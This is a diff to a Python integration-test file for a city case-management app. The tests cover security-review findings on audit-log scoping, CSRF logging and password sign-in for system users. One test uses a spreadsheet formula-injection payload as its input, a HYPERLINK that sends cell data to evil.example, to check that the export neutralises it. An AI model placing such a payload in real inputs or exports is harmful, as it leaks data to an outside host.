@@ -140,6 +140,23 @@ def test_finding_3_an_auditor_reads_only_their_own_citys_log(app, api_as, make_u
     assert "city-one-worker" not in exported
 
 
+def test_finding_3_a_form_refused_for_its_csrf_token_is_logged_under_the_users_city(app, make_user):
+    """The re-run of the review's scripts found these entries without a user or a city, so an
+    auditor of any city read them."""
+    from tests.integration.test_attachments_and_pages import sign_in
+
+    worker = make_user("grid_worker", grid_in(FENGQIAO).code)
+    browser = app.test_client()
+    assert sign_in(browser, worker.username).status_code == 302
+    assert browser.post("/account", data={"current_password": "x"}).status_code == 400
+    entry = db.session.scalars(
+        sa.select(AuditEntry)
+        .where(AuditEntry.action == "permission_denied", AuditEntry.actor_id == worker.id)
+        .order_by(AuditEntry.id.desc())
+    ).first()
+    assert entry is not None and entry.city_code == CITY and "CSRF" in entry.details["reason"]
+
+
 def test_finding_4_the_audit_export_writes_a_typed_formula_as_text(client, api_as, make_user):
     formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
     client.post("/api/v1/auth/token", json={"username": formula, "password": "x"})
@@ -279,9 +296,15 @@ def test_finding_13_webhooks_carry_no_case_content(api_as, make_user, worker, re
 def test_finding_13_an_open311_system_user_never_signs_in_with_a_password(client, api_as, make_user):
     system_client, _ = create_client("13号测试平台")
     admin = api_as(make_user("admin", CITY))
-    password = admin.post(f"/api/v1/users/{system_client.user_id}/reset-password").json["password"]
+    reset = admin.post(f"/api/v1/users/{system_client.user_id}/reset-password")
+    assert reset.status_code == 422 and "never signs in with a password" in reset.json["message"]
+    # Even a password set behind the app's back does not sign it in.
+    from gridcase.people.auth import hash_password
+
+    system_client.user.password_hash = hash_password("a-known-password-13")
     answer = client.post(
-        "/api/v1/auth/token", json={"username": system_client.user.username, "password": password}
+        "/api/v1/auth/token",
+        json={"username": system_client.user.username, "password": "a-known-password-13"},
     )
     assert answer.status_code == 401
 
